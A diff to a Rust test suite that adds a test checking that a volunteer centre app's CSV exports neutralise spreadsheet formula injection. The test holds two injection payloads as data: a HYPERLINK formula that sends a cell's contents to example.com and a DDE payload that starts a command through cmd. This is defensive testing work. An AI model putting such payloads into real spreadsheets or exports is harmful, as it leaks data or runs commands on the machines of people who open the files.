@@ -109,6 +109,8 @@ struct Centre {
     coordinator: Browser,
     volunteer: Browser,
     april: Uuid,
+    /// Its list is not approved yet.
+    may: Uuid,
 }
 
 /// Three meetings in 2026 (one list not approved yet, one on 1 April by Polish time), a walk-in, two
@@ -195,6 +197,7 @@ async fn centre() -> Centre {
         coordinator,
         volunteer,
         april,
+        may,
     }
 }
 
@@ -310,6 +313,59 @@ async fn csv_keeps_polish_letters_commas_and_quotes() {
     assert!(answer
         .text
         .contains("\"Zakupy: chleb, mleko i \"\"Żubrówka\"\" dla pana Łukasza\""));
+}
+
+#[tokio::test]
+async fn a_walk_in_named_like_a_formula_stays_text_in_every_csv() {
+    const FORMULA: &str = "=HYPERLINK(\"http://example.com/?\"&A1,\"Kliknij\")";
+    let mut centre = centre().await;
+    let may = centre.may;
+    let resident = Uuid::now_v7();
+    centre
+        .app
+        .push_applied(
+            &mut centre.organiser,
+            "2026-05-06T11:00:00Z",
+            vec![
+                on_paper(may, None, FORMULA),
+                request(
+                    Uuid::now_v7(),
+                    resident,
+                    "shopping",
+                    "@SUM(1+1)*cmd|' /C calc'!A0",
+                ),
+            ],
+        )
+        .await;
+    for path in [
+        format!("/api/v1/exports/requests.csv?{YEAR}&include_unapproved=true"),
+        format!("/api/v1/exports/attendance.csv?{YEAR}&include_unapproved=true"),
+        format!("/api/v1/events/{may}/attendance.csv"),
+    ] {
+        let answer = centre
+            .app
+            .call(&mut centre.organiser, Method::GET, &path, None)
+            .await;
+        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&answer.bytes[3..]);
+        let fields: Vec<String> = reader
+            .records()
+            .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect();
+        let runnable: Vec<&String> = fields
+            .iter()
+            .filter(|field| field.starts_with(['=', '+', '-', '@', '\t', '\r']))
+            .collect();
+        assert!(runnable.is_empty(), "{path}: {runnable:?}");
+        assert!(
+            fields
+                .iter()
+                .any(|field| field.starts_with("'=HYPERLINK") || field.starts_with("'@SUM")),
+            "{path}: the entry is in the file, as text: {fields:?}"
+        );
+    }
 }
 
 fn strings(range: &calamine::Range<Data>, column: usize) -> Vec<String> {
